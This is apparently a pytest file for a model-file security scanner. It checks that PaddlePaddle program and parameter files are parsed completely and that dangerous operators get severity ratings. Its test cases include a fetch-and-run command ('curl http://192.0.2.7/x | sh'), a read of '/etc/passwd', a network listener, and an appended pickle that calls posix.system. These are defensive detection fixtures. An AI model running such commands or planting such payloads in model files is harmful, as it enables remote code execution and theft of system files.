"""PaddlePaddle: programs in both forms, and parameters."""

import pytest
from format_files import PICKLE, assert_total, look

from benchmarks.corpus.malicious.formats2.paddle import operator, pir, program, tensor
from toadstone.checks.model.custom_operator import CustomOperator
from toadstone.checks.model.paddle_operator import PaddleOperator
from toadstone.core.fact import Import, Operator
from toadstone.core.finding import Severity


def severities(data: bytes, name: str = "inference.pdmodel") -> list[Severity]:
    facts = look(data, name).of(Operator)
    checks = (PaddleOperator(), CustomOperator())
    return [finding.severity for fact in facts for check in checks for finding in check.examine(fact)]


def test_plain_program_is_complete_and_silent() -> None:
    data = program(operator("relu"), operator("softmax"), operator("relu_grad"), operator("feed"), operator("fetch"))
    seen = look(data, "inference.pdmodel")
    assert (seen.kind, seen.unread, seen.anomalies) == ("paddle", [], [])
    assert severities(data) == []
    assert look(data, "__model__").kind == "paddle"


@pytest.mark.parametrize(
    ("name", "texts", "severity"),
    [
        ("py_func", {}, Severity.HIGH),
        ("save_combine", {"file_path": "out"}, Severity.HIGH),
        ("load_combine", {"file_path": "/etc/passwd"}, Severity.HIGH),
        ("load_combine", {"file_path": "weights"}, Severity.MEDIUM),
        ("listen_and_serv", {"endpoint": "0.0.0.0:6000"}, Severity.HIGH),
        ("send", {"endpoints": "192.0.2.7:6000"}, Severity.MEDIUM),
        ("my_fused", {}, Severity.MEDIUM),
        ("my_fused", {"command": "curl http://192.0.2.7/x | sh"}, Severity.HIGH),
    ],
)
def test_judgement(name: str, texts: dict[str, str], severity: Severity) -> None:
    assert severities(program(operator("relu"), operator(name, **texts))) == [severity]


def test_programs_in_json() -> None:
    assert severities(pir("1.relu", "1.data", name="x"), "inference.json") == []
    assert severities(pir("1.py_func"), "inference.json") == [Severity.HIGH]
    assert severities(pir("1.save_combine", file_path="out"), "inference.json") == [Severity.HIGH]


def test_parameters() -> None:
    data = tensor(2, 3) + tensor(4) + tensor()
    seen = look(data, "inference.pdiparams")
    assert (seen.kind, seen.unread, seen.anomalies) == ("paddle-parameters", [], [])
    assert "posix.system" in {str(fact.symbol) for fact in look(data + PICKLE, "inference.pdiparams").of(Import)}
    assert look(data[:-2], "inference.pdiparams").unread != []


def test_what_follows_the_program_is_looked_into() -> None:
    assert "posix.system" in {str(fact.symbol) for fact in look(program(operator("relu")) + PICKLE, "m.pdmodel").of(Import)}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("m.pdmodel", program(operator("py_func", x="y"))),
        ("w.pdiparams", tensor(2) + tensor(1, 2)),
        ("p.json", pir("1.py_func", a="b")),
    ],
)
def test_total(name: str, data: bytes) -> None:
    assert_total(data, name)
